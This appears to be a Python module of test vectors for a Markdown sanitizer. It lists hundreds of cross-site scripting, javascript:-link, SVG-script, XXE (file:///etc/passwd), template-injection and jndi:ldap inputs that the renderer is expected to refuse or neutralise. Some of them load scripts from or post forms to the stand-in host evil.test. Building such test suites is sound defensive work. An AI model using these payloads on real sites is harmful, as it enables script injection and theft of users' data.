"""More attempts: by the syntax of this site's Markdown, by the spelling of characters, and by what other programs interpret.

`vectors` adds them to its own. REFUSED: an attribute at each place of an attribute list, an address in a link, and bodies.
"""

from __future__ import annotations

OWN = "window.pwned++"
OTHER = "https://evil.test"

# Where an attribute list may stand, and attributes that no text may set.
PLACES = (
    "words\n{{: {} }}", "## Heading {{{}}}", "*words*{{{}}}", "**words**{{{}}}", "`code`{{{}}}",
    "[words](https://example.org){{{}}}", "![words](dot.png){{{}}}", "> words\n{{: {} }}",
    "| a {{: {} }} | b |\n|---|---|\n| x | y |", "Term\n: words\n  {{: {} }}", "```{{ .python {} }}\ncode\n```",
    "words[^1]\n\n[^1]: *note*{{{}}}", "/// details | Label\n*words*{{{}}}\n///", "- words\n\n    more\n    {{: {} }}",
    "Setext {{{}}}\n---", "<https://example.org>{{{}}}", "[@one]{{{}}}",
)  # fmt: skip
ATTRIBUTES = (
    f"onbeforetoggle={OWN}", f"oncontentvisibilityautostatechange={OWN}", f"onauxclick={OWN}", f"oncopy={OWN}",
    f"onwheel={OWN}", f"ongesturestart={OWN}", f"onsecuritypolicyviolation={OWN}", f"on={OWN}", f"ONERROR='{OWN}'",
    f"onunknownevent={OWN}", f"formaction={OTHER}", "srcdoc='<b>x'", f"xlink:href=javascript:{OWN}", f"xml:base={OTHER}",
    "xmlns=http://www.w3.org/2000/svg", "popover=auto", "popovertarget=main", "autofocus=x", "contenteditable=true",
    "draggable=true", "inert=x", "part=x", "slot=x", "is=x-y", "itemref=main", "usemap=#m", "ismap=x", "loading=eager",
    "decoding=sync", "download=x.html", f"attributionsrc={OTHER}", "target=_top", "rel=opener",
    "referrerpolicy=unsafe-url", "type=text/html", "name=cookie", "nonce=x", "integrity=sha256-x", "role=alert",
    "role='doc-noteref main'", "aria-hidden=true", "aria-label=x", "tabindex=9", "data-page=x", "v-html=x", "x-on:click=x",
    "@click=x", "ng-app=x", "hx-get=/x", "translate=no", "hidden=until-found", "background=x.png", "bgcolor=red",
    "color=red", "accesskey=s", "spellcheck=true", "enterkeyhint=go", "http-equiv=refresh", "charset=utf-7", "coords=0",
    "longdesc=x.html", f"cite={OTHER}", "action=x", "poster=x.png", "manifest=x", "profile=x", "archive=x", "codebase=x",
)  # fmt: skip
# Addresses of links, and what stands between words.
ADDRESSES = (
    "about:blank", "about:srcdoc", "chrome://settings", "resource://gre/x", "moz-extension://x/y", f"jar:{OTHER}!/x",
    f"mhtml:{OTHER}!x", "ms-its:x", "mk:@MSITStore:x", f"filesystem:{OTHER}/x", "ws://evil.test", "wss://evil.test",
    "ssh://evil.test", "git://evil.test/x", "sms:+1?body=x", "facetime:x", "itms-services://?action=x",
    f"ms-word:ofe|u|{OTHER}/x", "search-ms:query=x", "ms-msdt:/id", "vscode://x/y", "magnet:?xt=x",
    "whatsapp://send?text=x", "market://details?id=x", "web+x:y", "steam://run/1", "geo:0,0", "urn:x", "cid:x", "mid:x",
    "about:javascript:x", "x-apple.systempreferences:x", "tg://x", "callto:x", "wyciwyg://x", "mocha:x", "ecmascript:x",
    "script:x", "javascript&#x3a;x", "javascript%3Ax", "java%0ascript:x", "\\javascript:x", "./javascript:x",
    "?javascript:x", "javascript :x", "\uff4aavascript:x", "java\xadscript:x", "java\u0130script:x", "\u0458avascript:x",
    "javascript\uff1ax", "https\u2236//evil.test", "http\u2024//evil.test", "https://", "https:/evil.test",
    "https:\\\\evil.test", "HTTPS:evil.test", "//evil.test/%2f..", "/\t/evil.test", ".//evil.test", "..//evil.test",
    "/..//evil.test", "/%09/evil.test", "%2f%2fevil.test", "\u2215\u2215evil.test", "\uff0f\uff0fevil.test",
    f"{OTHER}:99999", "https://[evil.test]", "mailto:", "tel:", "mailto:x\\y", "data:,x", "DATA&colon;,x", "d&#x61;ta:,x",
    "data&#0058;,x",
)  # fmt: skip
CHARACTERS = (
    "&#57344;0&#xE001;", "&#XE000;0&#xE001;", "&#x0000E000;0&#xE001;", "&#xe000;0&#xE001;", "&#0057344;0&#xE001;",
    "&#xE000;d0&#xE001;", '&#xE000;hx"onclick=x&#xE001;', "&#xE000;e&#xE001;", "&#xE002;1", "<\ue003>", "&lt;&#xE003;&gt;",
    "&#2;wzxhzdk:0&#3;", "&#x2;klzzwxh:0000&#x3;", "&#2;amp&#3;", "&#3;", "&#2;", "&#2;qq3936677670287331zz&#3;", "\ue000",
    "\ue001", "\ue002", "\ue003", "\x02wzxhzdk:0\x03", "\x03", "\uf8ff", "\U000f0000", "\U0010fffd",
    "&#x5b;&#x5d;&#xF8FF;", "&#xF0000;", "&#x10FFFD;", "&#xFFFF;", "&#x1FFFF;", "&#xFDEF;", "&#127;", "&#129;", "&#x8D;",
    "&#x0B;", "&#x0C;", "&#x1B;[31m", "&#7;", "&ZeroWidthSpace;", "&NoBreak;", "&NegativeThinSpace;",
    "&NegativeMediumSpace;", "&NegativeThickSpace;", "&NegativeVeryThinSpace;", "&InvisibleTimes;", "&InvisibleComma;",
    "&ApplyFunction;", "&af;", "&ic;", "&it;", "java&NoBreak;script:", "&#x200B;", "&#x2060;", "&#xFEFF;", "&#x2028;",
    "&#x2029;", "&#x202A;", "&#x2069;", "&#xE0001;", "&#x180E;", "&#x3164;", "&#xFFA0;", "&#x115F;", "&#xFFF9;",
    "&#x206A;",
)  # fmt: skip

REFUSED: dict[str, tuple[str, ...]] = {
    "attributes in all places": tuple(PLACES[number % len(PLACES)].format(each) for number, each in enumerate(ATTRIBUTES)),
    "odd schemes": tuple(f"[words](<{address}>)" for address in ADDRESSES),
    "signs of what was lost": (
        *(f"Words &#{code}; words" for code in ("xD800", "xDFFF", "55357;&#56832", "xD83D;&#xDE00", "x110000", "x7FFFFFFF", "xFFFFFFFFFF")),
        *(f"Words {each} words" for each in ("&#0;", "&#x0;", "&#00000;", "&#xFFFC;", "&#65533;", "\ufffc", "\ufffd", "<\u212amg>")),
    ),
    "characters and references": tuple(f"Words {each} words" for each in CHARACTERS),
    "classes of the page": (
        "*words*{.site-nav}", "*words*{.masthead__name}", "*words*{.skip-link}", "*words*{.share}",
        "*words*{.call-actions}", "*words*{.event-banner}", "*words*{.prose}", "*words*{.figure-board}",
        "*words*{class='x}*{display:none}'}", "*words*{class='x</style><b>'}", "*words*{class='language-'}",
        "*words*{class='language-a/b'}", "*words*{class='note\xa0masthead'}", "*words*{class='NOTE'}",
        "*words*{class='drawing-x'}", "*words*{class='&lt;b&gt;'}", "*words*{class='x;y'}", "*words*{class='@import'}",
    ),  # fmt: skip
    "ids of the page": (
        "*words*{#share}", "*words*{#contents}", "*words*{#p1}", "*words*{#y2030}", "*words*{#main}",
        "*words*{#crowd-front}", "*words*{#lost-page}", "*words*{#status}", "*words*{#Main}", '*words*{#a"b}',
        "*words*{#a'b}", "*words*{#a<b}", "*words*{#x:y}", "*words*{#x/y}", "*words*{#\xf1}", "*words*{#\u0130}",
        "*words*{#---\xe9}", "*words*{id='a b'}", "*words*{id='s99'}", "*words*{id='fn-x y'}", "*words*{id=''}",
    ),  # fmt: skip
    "options and names of blocks": (
        '/// note | Label\n    attrs: {"on\\u0063lick": x}\n\nwords\n///',
        f'/// note | Label\n    attrs: {{"x><script>{OWN}</script>": y}}\n\nwords\n///',
        '/// note | Label\n    attrs: {id: "x\\"><b>"}\n\nwords\n///',
        "/// details | Label\n    attrs: {name: x}\n\nwords\n///",
        "/// details | Label\n    attrs: {open: x, popover: y}\n\nwords\n///",
        "////// note | One\n///// details | Two\n//// note | Three\n<b onclick=x>words</b>\n////\n/////\n//////",
        "/// drawing | ../../etc/passwd\nwords\n///", "/// drawing | <script>\nwords\n///",
        f'/// drawing | "><img src=x onerror={OWN}>\nwords\n///', "/// drawing | &#xE001;<b>\nwords\n///",
        "/// drawing | {{ 7*7 }}\nwords\n///", f"/// drawing | {OTHER}/x.svg\nwords\n///",
        "/// drawing | x\n    attrs: {onclick: y}\n\nwords\n///", "/// drawing | no-such-drawing\n<script>x</script>\n///",
        "/// caption | <script>x</script>\nwords\n///", "/// caption | #main\nwords\n///",
        "words\n\n/// caption | .masthead\nwords\n///",
    ),  # fmt: skip
    "reference links": (
        f'[words][a]\n\n[a]: <javascript:{OWN}> "title"', f"[words][a]\n\n[a]:\n    javascript:{OWN}",
        f"[words][\u212a]\n\n[k]: javascript:{OWN}", "[words] [a]\n\n   [a]: data:text/html,x",
        f"![words][a]\n\n[a]: javascript:{OWN} 'x'", "> [words][a]\n\n[a]: vbscript:x",
        f"[words][a]{{title=x}}\n\n[a]: javascript:{OWN}", "[<b>][a]\n\n[a]: https://example.org",
        f'[a]: <https://example.org/" onclick={OWN} x="> \'x\'\n\n[words][a]', "[__proto__]: javascript:x\n\n[__proto__]",
    ),  # fmt: skip
    "addresses in angle brackets": (
        "<vbscript:x>", "<JAVASCRIPT:x>", "<mailto:x>", "<tel:1>", "<ftp://evil.test>", "<https:javascript:x>",
        "<ftps://evil.test/x>", '<"<b>"@example.org>', "<https://example.org/&#xE000;0&#xE001;>", "<www.evil.test>",
        "<x:y>", "<svg onload=x@y.z>", "<img:x src=y>",
    ),  # fmt: skip
    "footnotes": (
        f"words[^<b onclick={OWN}>]\n\n[^<b onclick={OWN}>]: note", f'words[^"onclick={OWN}]\n\n[^"onclick={OWN}]: note',
        f"words[^'onclick={OWN}]\n\n[^'onclick={OWN}]: note", "words[^javascript:x]\n\n[^javascript:x]: note",
        "words[^../x]\n\n[^../x]: note", "words[^a b]\n\n[^a b]: note", "words[^&#xE000;]\n\n[^&#xE000;]: note",
        "words[^{{x}}]\n\n[^{{x}}]: note", "words[^%s]\n\n[^%s]: note",
        f"words[^1]\n\n[^1]: note\n\n    <script>{OWN}</script>", f"words[^1]\n\n[^1]: > <img src=x onerror={OWN}>",
        "words[^1]\n\n[^1]: # A heading", f"words[^1]\n\n[^1]: | a |\n    |---|\n    | <b onclick={OWN}> |",
        f"## A heading[^1]\n\n[^1]: <svg onload={OWN}>", "[words[^1]](javascript:x)\n\n[^1]: note",
        "![a[^1]](dot.png)\n\n[^1]: note", "[^1]: note", "words[^1][^1]{onclick=x}\n\n[^1]: note",
        "words[^a:b]\n\n[^a:b]: note",
    ),  # fmt: skip
    "lists and definitions": (
        f"<b onclick={OWN}>\n:   words", f"Term\n:   <svg onload={OWN}>\n\n    > <script>{OWN}</script>",
        "Term\n:   # A heading", f"Term {{onclick={OWN}}}\n:   words", f"Term\n\n:   [x](javascript:{OWN})",
        f"1. a\n    - b\n        1. <img src=x onerror={OWN}>", "3) <b>", f"- [ ] <input onfocus={OWN}>",
        f"* a\n* b\n{{: onclick={OWN} }}", "*   words\n\n    <!-- x",
    ),  # fmt: skip
    "cells": (
        f"| a |\n|:-:|\n| <td onclick={OWN}> |", "| a |\n|---|\n| x {: style=color:red } |",
        f"| a |\n|:-:|\n| x |\n{{: onclick={OWN} }}", "| a |\n|---|\n| [x](data:text/html,x) |",
        f"| a |\n|---|\n| ![x]({OTHER}/x.png) |", "| a |\n|---|\n| &#x202E; |",
        "| a |\n|---|\n| </td></tr></table><script> |", f"| ![x](dot.png){{onload={OWN}}} |\n|---|\n| x |",
        "| a |\n|---|\n| x[^1] |\n\n[^1]: <b>", "| a |\n|---|\n| [@<b>] |", "| <!-- |\n|---|\n| --> |",
        "| a |\n|---|\n| \\| <b> |", "| a |\n|---|\n| x {: rowspan=9999 colspan=9999 } |",
        "| a {: colspan=1000 } |\n|---|\n| x |", "| a {: .masthead } |\n|---|\n| x |",
    ),  # fmt: skip
    "citations": (
        f"[@one]{{onclick={OWN}}}", f"[@one{{onclick={OWN}}}]", "[@&quot;onclick=x]", "[@&#xE000;0&#xE001;]",
        f"[[@one]](javascript:{OWN})", "[@../../etc/passwd]", "[@__proto__]", "[@constructor]", "[@{{7*7}}]", "[@%s]",
        "[@one;@two]", "[@ONE]", "[@\uff4fne]", "[@<!--]", "[@`one`]", "[@**one**]", "[@one][a]\n\n[a]: javascript:x",
        '[@one"><b>]', "[@]]>]",
    ),  # fmt: skip
    "references in all places": (
        "[words](https://example.org/&#xE000;0&#xE001;)", "[words](&#xE000;0&#xE001;)", "![&#xE000;0&#xE001;](dot.png)",
        '![x](dot.png "&#xE000;p1&#xE001;")', "[words](dot.png '&#xE000;e&#xE001;')", "## &#xE000;hx&#xE001;",
        "*words*{title='&#xE000;0&#xE001;'}", "*words*{#&#xE000;0}", "*[HTML]: &#xE000;0&#xE001;\n\nHTML",
        "Term &#xE000;\n: words", "> &#xE000;0&#xE001;", "- &#xE000;0&#xE001;", "| &#xE000; |\n|---|\n| x |",
        "[words](x%EE%80%800%EE%80%81.md)", "[words](#%EE%80%80)", "[words](https://example.org/&ZeroWidthSpace;x)",
        "![a&NoBreak;b](dot.png)", "## A&ZeroWidthSpace;B", "*words*{title='a&NoBreak;b'}",
    ),  # fmt: skip
    "letters that look like signs": (
        "\u2028x", "\ufdd0", "\U0001fffe", "words\x00", "\x9bx", "\x85x", "\x0bx", "\x0cx", "\x1cx", "\u180e",
        "\ufeffwords", "\u206f", "\U000e0041words", "\U000e007f", "\ufff9a\ufffab\ufffb", "\u202ewords\u202c",
        "\u2067words\u2069",
    ),  # fmt: skip
    "templates of other programs": (
        "<\u200bscript>", "```` ```\n<b>\n````", f"[@one](javascript:{OWN})", "https://evil\u2044test",
    ),  # fmt: skip
}

HARMLESS: dict[str, tuple[str, ...]] = {
    "words: classes of the page": (
        "*words*{class='__proto__'}",
    ),  # fmt: skip
    "words: ids of the page": (
        "*words*{id='constructor\n'}",
    ),  # fmt: skip
    "words: options and names of blocks": (
        "/// html | script\nwords\n///", f"/// html | iframe[src={OTHER}]\nwords\n///", "/// tab | words\nwords\n///",
        "/// admonition | words\nwords\n///", "/// definition\nwords\n///", "/// figure-caption\nwords\n///",
        "/// script\nwords\n///", "/// note | Label\n    attrs: !!python/object/apply:os.system ['true']\n\nwords\n///",
        "/// note | Label\n    attrs: &a {title: x}\n\nwords\n///",
        f'/// note | Label\n    attrs: {{"x onclick": {OWN}}}\n\nwords\n///',
        f'/// note | Label\n    attrs: {{"x><img src=x onerror={OWN}": y}}\n\nwords\n///',
        f'/// note | Label\n    attrs: {{title: "\\"><script>{OWN}</script>"}}\n\nwords\n///',
        '/// note | Label\n    attrs: {class: "note x\\" onclick=\\"y"}\n\nwords\n///',
        '/// note | Label\n    attrs: {title: "\\uE000p1\\uE001"}\n\nwords\n///',
        '/// note | Label\n    attrs: {title: "\\u202Ex"}\n\nwords\n///',
        '/// note | Label\n    attrs: {title: "\\x02"}\n\nwords\n///',
        '/// note | Label\n    attrs: {lang: "<b>"}\n\nwords\n///',
        "/// note | Label\n    attrs: {dir: sideways}\n\nwords\n///", "/// note | Label\n    onclick: x\n\nwords\n///",
        "/// details | Label\n    open: onclick\n\nwords\n///", "/// details | Label\n    type: [a, b]\n\nwords\n///",
        "/// drawing\nwords\n///", "/// caption | < onclick=x\nwords\n///", "/// caption | ^1\nwords\n///",
    ),  # fmt: skip
    "words: reference links": (
        f'[a]: https://example.org "<script>{OWN}</script>"\n\n[words][a]',
        f'[a]: https://example.org \'" onclick={OWN} x="\'\n\n[words][a]',
        f"[a]: https://example.org (<img src=x onerror={OWN}>)\n\n[words][a]",
        f'[words][a"onclick={OWN}]\n\n[a"onclick={OWN}]: https://example.org',
        f'![words][a]\n\n[a]: dot.png \'" onerror={OWN} x="\'',
    ),  # fmt: skip
    "words: addresses in angle brackets": (
        f"<https://example.org/'onclick={OWN}>", "<a'onmouseover=x@example.org>", "<https://example.org/%EE%80%80>",
        "<HTTPS://EXAMPLE.ORG/`x`>", "<https://example.org/**x**>", "<a@example.org onclick=x>", "<//evil.test>",
        "<script@example.org>",
    ),  # fmt: skip
    "words: footnotes": (
        "words[^main]\n\n[^main]: note", "words[^__proto__]\n\n[^__proto__]: note", "words[^a]\n\n[^a]: [^a]",
        "words[^a]\n\n[^a]: words[^b]\n\n[^b]: words[^a]", f"words[^1]\n\n[^1]: note\n\n        <script>{OWN}</script>",
        "words[^1]\n\n[^1]:", "words[^]", "words[^\xfc]\n\n[^\xfc]: note", "words[^1]\n\n[^1]: `</li></ol></div><script>`",
    ),  # fmt: skip
    "words: lists and definitions": (
        f"Term\n:   words {{: onclick={OWN} }}", f"Term\n:   ```\n    </code><script>{OWN}</script>\n    ```",
        "`</dt><script>`\n:   words", "99999999999999. words", "-1. words",
    ),  # fmt: skip
    "words: cells": (
        "| a | b |\n|---|---|\n| `|<script>` | x |", f"| a |\n|---{{: onclick={OWN} }}|\n| x |",
        "a | b\n--|--\n`</table>` | {{ 7*7 }}", "| a |\n|---|\n| `` `<b>` `` |",
    ),  # fmt: skip
    "words: citations": (
        "[[@one]](https://example.org)", "[@one, p. 3]", "[-@one]", "[@one\xa0]",
        "![@one](dot.png)", "![words [@one]](dot.png)",
    ),  # fmt: skip
    "words: characters": (
        "[words](https://example.org/%EE%80%80)", "Words &#x9F; words", "Words &#xAD; words", "Words &#x200C; words", "Words &#x200D; words",
        "Words &#x200E; words", "Words &#x200F; words", "Words &shy; words", "Words &lrm;&rlm;&zwj;&zwnj; words",
    ),  # fmt: skip
    "words: spellings of references": (
        "&LT;script&GT;", "&lt script&gt", "&#x3cscript&#x3e", "&#60script&#62", "&#0060;script&#0062;",
        "&#x00003C;script>", "&nvlt;script&nvgt;", "&apos;&quot;&grave;&DiacriticalGrave;", "&lcub;&lcub;7*7&rcub;&rcub;",
        "&lbrace;% x %&rbrace;", "&colon;&lpar;&rpar;&lsqb;&rsqb;&bsol;&sol;",
        f"&excl;&lbrack;x&rbrack;&lpar;{OTHER}/x.png&rpar;", "&amp;#60;script&amp;#62;", "&#38;lt;script&#38;gt;",
        "&#38;#60;script&#38;#62;", "&#x26;#x3C;script>", "&amp;amp;lt;script>", "&amp;#xE000;0&amp;#xE001;",
        "&#38;#xE000;0&#38;#xE001;", "&#x26;#57344;p1&#38;#57345;", "&amp;ZeroWidthSpace;", "&#38;NoBreak;",
        "&ltscript&gt", "&AMP&LT&GT&QUOT", "&notit; &notin; &copy=1 &para", "&#x;", "&#;", "&#xG;", "&#;x", "&;", "&x",
        "& #60;", "&#6 0;", "&CounterClockwiseContourIntegral;", "&fjlig;&ngE;&NotEqualTilde;", "&Tab;&NewLine;x",
        "&nbsp;&ensp;&emsp;", "&hearts;&#9829;&#x2665;", "\\&lt;b\\&gt;", "&amp;nbsp;", "&lt;!--&gt; &lt;![CDATA[ &lt;?x",
        "&#x5D;&#x5D;&#x3E;", "&lt;/script&gt;&lt;script&gt;", "&lt;/title&gt;", "&lt;/svg&gt;", "&#96;&#36;{7*7}&#96;",
    ),  # fmt: skip
    "words: letters that look like signs": (
        "\uff1cscript\uff1e\uff1c/script\uff1e", "\ufe64script\ufe65", "\u2039script\u203a", "\u3008script\u3009",
        "<\u0338script>", "\u02c2img src=x\u02c3", "\uff02 onclick=\uff02x", "\uff07\u2019\u02bc onclick=x",
        "\uff06lt;b\uff06gt;", "\u017fcript <\u017fcript>", "\u0130MG <\u0130mg src=x>", "\u200fwords\u200e",
        "\u0600\u0601words", "\u05d0\u05d1 <\u05d2> \u05d3", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufe0f\u20e3",
        "\u061cwords", "\u034fwords", "\u17b4words", "\u3000words", "\u1680words", "\u2800words", "\xa0\xa0", "p\u0430ypal.com",
    ),  # fmt: skip
    "words: templates of other programs": (
        "{{ cycler.\\_\\_init\\_\\_.\\_\\_globals\\_\\_ }}", "{{ ''|attr('x') }}", "{%- set x = 1 -%}{{ x }}",
        "{% include '/etc/passwd' %}", "{% import 'x' as y %}", "{% extends 'base.html' %}",
        "{% block content %}x{% endblock %}", "{% autoescape false %}x{% endautoescape %}", "{{ 'x'|safe }}", "{{ x }",
        "{{{ x }}}", "{{& x }}", "{{> x }}", "{{# x }}y{{/ x }}", "{% liquid\necho x %}", "[[ 7*7 ]] [% 7*7 %]",
        "&lt;#assign x=1>", "*{7*7} @{7*7} ~{7*7}", "@(7*7) @{ x }", "${jndi:ldap://evil.test/x}", "{php}x{/php}", "{$x}",
        "{if 1}x{/if}", "{0!r:>99999999}", "{:x^9999999}", "{0[x].y}", "{x.\\_\\_class\\_\\_}", "{{}} {} }{", "}{",
        "%(x)99999999d", "%99999999s %n %n", "%*d", "%c%c%c", "$x ${x} $$", "`{{ 7*7 }}` {{ `7` }}", "{# x", "{% x", "%}",
        "-}}", "|attach|x.png |static|x", "{static}x {author}x {category}x {tag}x {index}", "[[TOC]] [toc] {:toc}",
        ":::note\nwords\n:::", "!!! note\n    words", "??? note\n    words", '--8&lt;-- "/etc/passwd"',
        "!include /etc/passwd", "{{&lt; figure src=x >}}", "{% raw %}", "{% endraw %}",
        "\\input{/etc/passwd} \\write18{x}", "$$\\href{javascript:x}{y}$$", "$x$ \\(x\\) \\[x\\]",
        '```mermaid\nclick A href "javascript:x"\n```', "```{=html}\n<script>x</script>\n```", "#set($x=7) $x", "#{7*7}", "``` html run\n<script>x</script>\n```",
        "~~~{.html}\n<b>\n~~~", "=html=", "+++\ntitle = 'x'\n+++", "---\ntitle: x\n---", "%%{init: x}%%",
        "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E", "+ADw-script+AD4-", "=1+1|cmd", "@import 'x';",
        "&lt;/style>", "expression(x) url(javascript:x)", "]]>", "]]&gt;", "&lt;![CDATA[x]]&gt;", "-->", "--!>", "<!",
        "</", "<?", "<![", "<!-", "< !-- x -->", "<-->", "</>", "<>", "<=>", "<3<3<3",
    ),  # fmt: skip
}

# Values of fields, as in `vectors`.
REFUSED_VALUES = (
    f"</script><script>{OWN}</script>",
    f"<!--<script>{OWN}",
    f"--><img src=x onerror={OWN}>",
    f"]]></summary><content type='xhtml'><script>{OWN}</script></content>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    f"\"><svg/onload={OWN}>",
    f"'><script src={OTHER}/x.js></script>",
    "</a></li></ul></nav><h1>x</h1>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'>",
    "<base href=//evil.test/>",
    f"<form action={OTHER}><input name=x><button>Go</button></form>",
    "Words &lt;b&gt; words",
    "Words &#x3C;b> words",
    "Words &#60; words",
    "Words &NoBreak; words",
    "Words &ZeroWidthSpace; words",
    "Words &quot; onclick=x",
    "Words </ words",
    "Words <! words",
    "Words &#x; words",
    "Words \u200e words",
    "Words \u061c words",
    "Words \u2060words",
    "Words \u2066words",
    "Words \ufeffwords",
    "Words \U000e0041words",
    "Words \u180ewords",
)
SHOWN_VALUES = (
    "< script>x< /script>", "&lt &gt &amp &quot", "& #60; &; &#;",
    "\u201d onclick=x \u00ab '\"` =x", "` ``` ~~~ /// note | x", "*/ } * { display:none } /*",
    "\\'; window.pwned++; //", "\\\"); window.pwned++; (\"", "${window.pwned++} `${window.pwned++}`",
    "{{ cycler.__init__ }} {%- include 'x' -%}", "{title} {caller} {name} {} {0:>999999999} {x!r}", "%(caller)s %999999999d %n",
    "\uff1cscript\uff1e \ufe64b\ufe65 \u2039b\u203a", "java\u200ascript:window.pwned++", "\u05d0\u05d1\u05d2 \u0627\u0628", "p\u0430ypal.com",
    "- x: [y, {z", "!!python/object x", "--- x", "# x", "| x", "> x", "@x `x", "null", "~~~", "0x1F 1e9 .inf 1_000", "Yes", "2024-01-01",
    "/// details | x", "[^1]: x", "*[x]: y", "| a | b |", "=SUM(A1:A9)", "+1|cmd", "http://[::1", "//evil.test/x", "..\\..\\x", "%2e%2e%2f %00 %0d%0a",
)  # fmt: skip
REFUSED_FRONTS = (
    "title: A title\n<<: *a",
    "title: A title\n<<: [{slug: x}]",
    "base: &a {title: A title}\n<<: *a",
    "title: !!str A title",
    "title: !!binary QSB0aXRsZQ==",
    "title: !<tag:yaml.org,2002:str> A title",
    "title: ! [A title]",
    "title: !!set {A title}",
    "title: !!timestamp 2024-01-01",
    "%YAML 1.2\n---\ntitle: A title",
    "%TAG ! tag:evil.test,2024:\ntitle: !x A title",
    "title: A title\n...\nslug: x",
    "? title\n: - A title",
    "? {a: b}\n: c",
    "title: A title\n\"title\": Another",
    "title: A title\n\"\\x74itle\": Another",
    "title: A title\n\"<b>\": x",
    "title: A title\n__proto__: x",
    "title: A title\n__class__: x",
    "title: A title\nmodel_config: {extra: allow}",
    "title: \"A title \\u003cscript>\"",
    "title: \"A title \\x3Cscript>\"",
    "title: \"A title \\uE000p1\\uE001\"",
    "title: \"A title \\u202Ex\"",
    "title: \"A title \\0\"",
    "title: \"A title \\e[31m\"",
    "title: \"A title \\L\"",
    "title: \"A title \\N\"",
    "title: \"A title \\b\"",
    "title: \"A title \\uD800\"",
    "title: \"A title \\U00110000\"",
    "title: \"A \\\n  title\\nof two lines\"",
    "title: |\n  A title\n  of two lines",
    "title: >+\n  A title\n\n  of two lines",
    "title: |9\n  A title",
    "title: [[[[[[[[x]]]]]]]]",
    "title: {{{{{{{{x: y}}}}}}}}",
    "title: @A title",
    "title: `A title`",
    "title: A title: more",
    "title:\tA title\n\tslug: x",
    "title: 'A title",
    "title: A title\nauthors: {A: B}",
    "title: A title\nformerly: /x",
    "title: A title\nquestion: [x]",
    "title: A title\nanswer: x",
    "title: A title\nupdated: 2024-02-30",
    "title: A title\ndate: 0x7e8-01-01",
)
REFUSED_URLS = (
    f"https://evil.test/' onclick={OWN} '", "https://evil.test/>x", "https://evil.test/\u202ex", "https://evil.test/\ue000", "https:evil.test",
    "https:/evil.test", "https:\\\\evil.test", "\\\\evil.test", "/evil", "#x", "?x", "x", "mailto:a@example.org", "tel:1", "javascript://x/%0a1",
    "view-source:https://evil.test", "blob:https://evil.test/x", "vbscript:x", "wss://evil.test", "about:blank", "https://evil.test/\tx",
    "https://evil.test/\u00a0x", "https://evil.test/\u2028x", " javascript:x",
)  # fmt: skip

# What a drawing may not hold: inside it, and in place of the whole file ({} stands for a drawing without its first tag).
DRAWINGS = (
    f"<script>{OWN}</script>", f"<script href='data:,{OWN}'/>", f"<SCRIPT>{OWN}</SCRIPT>", f"<script><![CDATA[{OWN}]]></script>",
    f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{OWN}</x:script>", f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{OWN}</x:script>",
    f"<script xmlns=''>{OWN}</script>", f"<script xmlns='http://www.w3.org/1999/xhtml'>{OWN}</script>",
    f"<foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='{OWN}'/></foreignObject>", "<foreignObject/>", "<foreignobject/>",
    f"<iframe xmlns='http://www.w3.org/1999/xhtml' src='{OTHER}'/>", f"<use href='{OTHER}/x.svg#x'/>", "<use href='#x'/>",
    "<use xmlns:l='http://www.w3.org/1999/xlink' l:href='data:image/svg+xml,x#x'/>", f"<image href='{OTHER}/x.png'/>", f"<feImage href='{OTHER}/x.png'/>",
    f"<a href='javascript:{OWN}'><text>x</text></a>", f"<animate onbegin='{OWN}' attributeName='x'/>", "<animate attributeName='href' values='javascript:x'/>",
    f"<set attributeName='href' to='javascript:{OWN}'/>", "<animateTransform attributeName='x'/>", "<animateMotion path='M0 0'/>", "<discard/>",
    f"<style>@import '{OTHER}/x.css'</style>", "<style>*{display:none}</style>", "<title>x</title>", "<desc><b>x</b></desc>", "<metadata>x</metadata>",
    "<defs><g/></defs>", "<symbol/>", "<marker/>", "<pattern/>", "<mask/>", "<clipPath/>", "<filter/>", "<view/>", "<switch/>", "<textPath href='#x'>x</textPath>",
    "<svg/>", "<svg xmlns='http://www.w3.org/2000/svg'/>", f"<handler type='application/ecmascript'>{OWN}</handler>", f"<video src='{OTHER}/x'/>", "<audio/>",
    "<cursor/>", "<font-face/>", f"<linearGradient href='{OTHER}/x#y'/>", "<solidcolor/>", "<html xmlns='http://www.w3.org/1999/xhtml'/>", "<math xmlns='http://www.w3.org/1998/Math/MathML'/>",
    f"<g onclick='{OWN}'/>", f"<g ONCLICK='{OWN}'/>", f"<g on='{OWN}'/>", f"<g onload='{OWN}'/>", f"<text onfocusin='{OWN}'>x</text>", f"<g style='background:url({OTHER})'/>",
    f"<path d='M0 0' fill='url({OTHER}/x#y)'/>", "<path d='M0 0' filter='url(#x)'/>", "<path clip-path='url(#x)'/>", "<path marker-end='url(#x)'/>", "<g href='x'/>",
    "<g xmlns:l='http://www.w3.org/1999/xlink' l:href='javascript:x'/>", "<g xml:base='https://evil.test/'/>", "<g xml:space='preserve'/>", "<g id='main'/>", "<g tabindex='0'/>",
    "<g class='masthead'/>", "<g class='land masthead'/>", "<g class='land&#10;masthead'/>", "<g role='button' data-x='y'/>", "<g aria-hidden='true'/>", "<g lang='x'/>",
    "<g x:class='land' xmlns:x='urn:x'/>", "<text>&x;</text>", "<text>&nbsp;</text>", "<text>&lt</text>", "<g", "</svg><svg>", "<text>]]></text>", "<g class='a' class='b'/>", "<1/>",
    "<text>&#0;</text>", "<text>&#xFFFE;</text>", "<text>&#xD800;</text>", "<g a='<'/>", "<?xml version='1.0'?>", "<![CDATA[<script>]]><script/>",
)  # fmt: skip
WHOLE_DRAWINGS = (
    "<!DOCTYPE svg [<!ENTITY x 'y'>]>{}", "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{}", "<!DOCTYPE svg [<!ENTITY % x 'y'> %x;]>{}",
    "<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]>{}", f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA '{OWN}'>]>{{}}",
    "<html xmlns='http://www.w3.org/1999/xhtml'>{}</html>", "<svg/>", "{}{}", "{}words", "words{}", "\ufeff\ufeff{}", "<?xml version='1.0' encoding='utf-7'?>{}",
)  # fmt: skip
# What a drawing may hold, and what is only words there.
